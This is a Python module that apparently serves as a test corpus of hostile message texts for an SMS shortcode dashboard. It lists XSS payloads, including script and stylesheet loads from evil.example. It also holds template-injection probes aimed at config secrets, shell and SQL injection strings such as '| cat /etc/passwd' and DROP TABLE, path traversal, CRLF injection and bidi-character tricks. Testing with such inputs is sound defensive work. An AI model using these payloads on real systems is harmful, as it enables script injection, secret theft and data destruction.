"""Texts that try to be more than a text, as strangers send them to a shortcode."""

from collections.abc import Iterator
from itertools import product

SAY = "alert(1)"  # what the browser complains of wherever it comes to run

#: Elements that run something by themselves, when they are clicked, or when something goes wrong.
TAGS = (
    "<script>{say}</script>",
    "</script><script>{say}</script>",
    "<ScRiPt>{say}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{say}</scr</script>ipt>",
    "<script/x>{say}</script>",
    "<script\n>{say}</script>",
    "<img src=x onerror={say}>",
    "<img/src=x/onerror={say}>",
    "<IMG SRC=x OnErRoR={say}>",
    '<img src="x" onerror="{say}">',
    "<img src=x onerror='{say}'",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload={say}>",
    "<svg/onload={say}>",
    "<svg><script>{say}</script></svg>",
    "<svg><animate onbegin={say} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{say}><text y=20>x</text></a></svg>",
    "<math><mtext><script>{say}</script></mtext></math>",
    "<body onload={say}>",
    "<iframe src=javascript:{say}>",
    "<iframe srcdoc='<script>{say}</script>'>",
    "<object data=javascript:{say}>",
    "<embed src=javascript:{say}>",
    "<form action=javascript:{say}><button>x</button></form>",
    "<button formaction=javascript:{say}>x</button>",
    "<a href=javascript:{say}>x</a>",
    "<a href='JaVaScRiPt:{say}'>x</a>",
    "<a href='java\tscript:{say}'>x</a>",
    "<a href=data:text/html,<script>{say}</script>>x</a>",
    "<video><source onerror={say}></video>",
    "<audio src=x onerror={say}>",
    "<details open ontoggle={say}>x</details>",
    "<input autofocus onfocus={say}>",
    "<select autofocus onfocus={say}>",
    "<textarea autofocus onfocus={say}></textarea>",
    "<marquee onstart={say}>x</marquee>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{{background:url(//evil.example/x)}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<template><script>{say}</script></template>",
    "<noscript><p title='</noscript><script>{say}</script>'>",
    "<!--><script>{say}</script>-->",
    "<![CDATA[<script>{say}</script>]]>",
    "<?xml version='1.0'?><script>{say}</script>",
    "<x onclick={say} hx-get=/dashboard/ hx-trigger=load>x</x>",
    "<div hx-on::load={say} hx-trigger=load hx-get=/dashboard/audit>x</div>",
    "<div data-hx-get=/dashboard/ data-hx-trigger=load data-hx-vals='js:{{x:{say}}}'>x</div>",
    "<dialog open><form method=post action=/dashboard/logout><button autofocus>x</button></form></dialog>",
    "<table><td background=javascript:{say}>",
    "<title></title><script>{say}</script>",
    "<xmp><script>{say}</script></xmp>",
    "<plaintext>",
)

#: Ways out of where a text may stand in a page: an attribute, a script, a comment, a style.
WAYS_OUT = ("", '">', "'>", "`>", '" x="', "*/", "-->", "</title>", "</textarea>", "</style>")
BEHIND_THEM = (
    "<script>{say}</script>",
    "<svg/onload={say}>",
    "<img src=x onerror={say}>",
    "autofocus onfocus={say} x=",
    "{say}//",
)

HANDLERS = ("onclick", "onmouseover", "onfocus", "onpointerrawupdate", "onanimationstart", "ontransitionend")

#: Languages of templates, and what they would make of it.
TEMPLATES = (
    "{{7*191}}",
    "{{ config }}",
    "{{ visit.desk.settings.callback_secret }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{% include 'login.html' %}",
    "{# nothing #}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "${{7*191}}",
    "{{constructor.constructor('alert(1)')()}}",
    "%(zone)s %(num)s %s %d %n",
    "{0.__class__} {visit}",
    "$(alert 1) `alert 1`",
)

#: What looks like HTML only when somebody decodes it once more.
ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&copy;&notit;",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "ʺ onmouseover=alert(1) ʺ",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/?x=<script>alert(1)</script>",
    "/dashboard/logout",
    "../../../../etc/passwd",
    "file:///etc/passwd",
)

#: Characters that turn the writing round, are not to be seen, or are more than one.
WRITING = (
    "pay \u202e001 RUE\u202c now",
    "\u202dWIN\u202c",
    "\u2066WIN\u2069 \u2067blue\u2069",
    "\u200eWIN\u200f blue",
    "WI\u200bN blue",
    "WIN\u2028blue\u2029red",
    "WIN\ufeffblue",
    "\u0000<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "WIN\x07\x08\x1b[31mred\x1b[0m",
    "WIN\r\nSet-Cookie: x=1",
    "WIN\x0b\x0cblue\x85x",
    "👩‍👩‍👧‍👦 family",
    "🇧🇪🇳🇱 flags",
    "𝒲ℐ𝒩 𠜎𠜱𠝹",
    "é e\u0301 ﬁ Ω",
    "مرحبا بالعالم",
    "שלום עולם",
    "Z" + "\u0301" * 40 + "algo",
    "ﷺ﷽",
    "\U000e0041\U000e0042 tags",
    "\ufff9annotated\ufffa\ufffb",
    "\ufffe\uffff",
)

#: Longer than any page is wide, with and without a place to break.
HUGE = (
    "W" * 1500,
    "<b>" * 500,
    "👋" * 700,
    "<script>alert(1)</script>" * 60,
    "a b " * 380,
    "&" * 1500,
)

#: For whoever puts texts into SQL, JSON, a shell or a spreadsheet.
OTHER = (
    "' OR '1'='1",
    "'; DROP TABLE mo_message; --",
    '"}],"x":[{"y":"',
    "__proto__",
    "constructor",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "1e309",
    "=1+1",
    "@SUM(1+1)",
    "$(id)",
    "`id`",
    "| cat /etc/passwd",
)


def payloads() -> Iterator[str]:
    """Give each of them."""
    for shape in TAGS:
        yield shape.format(say=SAY)
    for way_out, behind in product(WAYS_OUT, BEHIND_THEM):
        yield way_out + behind.format(say=SAY)
    for handler, quote in product(HANDLERS, ('"', "'", "`", " ")):
        yield f"x{quote} {handler}={quote}{SAY}{quote} tabindex={quote}1{quote} x={quote}"
    for kind in (TEMPLATES, ENCODED, ADDRESSES, WRITING, HUGE, OTHER):
        yield from kind
